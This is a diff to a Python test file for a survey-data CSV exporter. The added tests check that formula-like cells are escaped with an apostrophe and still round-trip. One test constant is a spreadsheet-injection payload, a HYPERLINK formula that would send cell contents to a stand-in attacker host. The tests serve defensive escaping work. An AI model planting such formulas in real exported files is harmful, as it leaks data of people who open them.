@@ -1,3 +1,4 @@
+import csv
 import io
 import json
 from collections import Counter
@@ -11,11 +12,11 @@ import pytest
 from hypothesis import given, settings, strategies as st
 from pyarrow import parquet
 
-from privacy.designs import Design, Row, read_records
+from privacy.designs import Design, Row, read_records, write_records
 from surveys.intake import columns, sealing
 from surveys.intake.models import Inbox
-from surveys.intake.recordfiles import as_csv, as_parquet, as_sav, variables
-from surveys.intake.recordfiles.rows import Records, sealed
+from surveys.recordfiles import as_csv, as_parquet, as_sav, variables
+from surveys.recordfiles.rows import Records, sealed
 from tests.intake import asked, filed
 from tests.intake.shapes import any_codes, designs
 
@@ -66,6 +67,36 @@ def test_a_csv_file_holds_names_nothing_a_dash_and_question_marks() -> None:
     lines = csv_of(filed.records(ASKS, ROWS)).splitlines()
     assert lines[0] == LINES[0]
     assert sorted(lines[1:]) == sorted(LINES[1:])
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"see")'
+TEMPTING = asked.written(
+    {"kind": "plain", "questions": [{"name": "+1+2", "choices": [FORMULA, "'" + FORMULA, "-5", "@SUM(A1)"]}]}
+)
+
+
+def test_no_name_goes_out_as_a_formula_and_every_one_comes_back() -> None:
+    rows = [Row(1, (code,)) for code in range(4)]
+    text = csv_of(filed.records(TEMPTING, rows))
+    header, *cells = csv.reader(io.StringIO(text))
+    assert header == ["group", "'+1+2"]
+    assert sorted(cell for _group, cell in cells) == sorted(
+        [f"'{FORMULA}", f"''{FORMULA}", "'-5", "'@SUM(A1)"]
+    )
+    assert sorted(rows_of(text, TEMPTING)) == rows
+
+
+def test_the_command_that_disguises_writes_the_same_cells() -> None:
+    rows = [Row(1, (code,)) for code in range(4)]
+    file = io.StringIO()
+    write_records(file, TEMPTING, rows)
+    ours = csv_of(filed.records(TEMPTING, rows))
+    assert sorted(file.getvalue().splitlines()) == sorted(ours.splitlines())
+
+
+def test_names_written_by_hand_as_they_are_are_read_too() -> None:
+    lines = ["group,+1+2", "disguised,-5", "disguised,@SUM(A1)"]
+    assert rows_of("\n".join(lines), TEMPTING) == [Row(1, (2,)), Row(1, (3,))]
 
 
 @settings(max_examples=40)
